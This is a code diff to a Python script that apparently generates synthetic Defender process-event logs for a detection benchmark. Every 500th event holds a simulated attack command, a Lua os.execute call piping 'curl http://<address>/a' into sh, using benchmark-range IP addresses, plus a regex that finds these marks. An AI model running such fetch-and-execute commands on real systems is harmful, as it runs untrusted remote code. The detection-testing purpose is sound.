@@ -14,6 +14,7 @@ import argparse
 import json
 import os
 import random
+import re
 import sqlite3
 import subprocess
 import sys
@@ -28,6 +29,7 @@ import orjson
 
 HOSTS = 200
 BAD_EVERY = 500
+_MARK = re.compile(r"http://(198\.1[89]\.\d+\.\d+)/a")
 _WORDS = "inventory report update agent backup sync monitor printer billing cache index audit health".split()
 
 
@@ -53,7 +55,7 @@ def main() -> None:
 def line(number: int, when: datetime, chance: random.Random) -> bytes:
     """One process start, as Defender tells it."""
     bad = number % BAD_EVERY == 0
-    command = f"lua5.4 -e 'os.execute(\"curl http://198.51.100.7/{number}|sh\")'" if bad else _ordinary(chance)
+    command = f"lua5.4 -e 'os.execute(\"curl http://{_address(number)}/a|sh\")'" if bad else _ordinary(chance)
     stamp = when.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
     host = f"host-{chance.randrange(HOSTS)}"
     properties = {
@@ -64,6 +66,12 @@ def line(number: int, when: datetime, chance: random.Random) -> bytes:
         "InitiatingProcessFolderPath": "/usr/sbin/cron", "InitiatingProcessCommandLine": "cron -f",
     }  # fmt: skip
     return orjson.dumps({"time": stamp, "category": "AdvancedHunting-DeviceProcessEvents", "properties": properties})
+
+
+def _address(number: int) -> str:
+    """One for each attack, of the range that is for benchmarks."""
+    number //= BAD_EVERY
+    return f"198.{18 + number % 2}.{number // 512 % 256}.{number // 2 % 256}"
 
 
 def _ordinary(chance: random.Random) -> str:
@@ -158,7 +166,7 @@ def _write(log: Path, rate: int, seconds: int, chance: random.Random) -> dict[st
                 when = datetime.now(UTC)
                 lines.append(line(number, when, chance))
                 if number % BAD_EVERY == 0:
-                    marked[f"198.51.100.7/{number}|"] = when.timestamp()
+                    marked[_address(number)] = when.timestamp()
             out.write(b"\n".join(lines) + b"\n")
             time.sleep(max(0.0, begun + (turn + 1) * step - time.monotonic()))
     return marked
@@ -174,10 +182,8 @@ def _look(path: Path, seen: dict[str, float], ended: threading.Event) -> None:
                 query = "SELECT rowid, body FROM entries WHERE rowid > ? ORDER BY rowid"
                 for number, body in store.execute(query, (last,)).fetchall():
                     last = number
-                    for part in body.split("198.51.100.7/")[1:]:
-                        mark = part.split("|", 1)[0]
-                        if mark.isdigit():
-                            seen.setdefault(f"198.51.100.7/{mark}|", now)
+                    for mark in set(_MARK.findall(body)):
+                        seen.setdefault(mark, now)
         time.sleep(0.05)
 
 
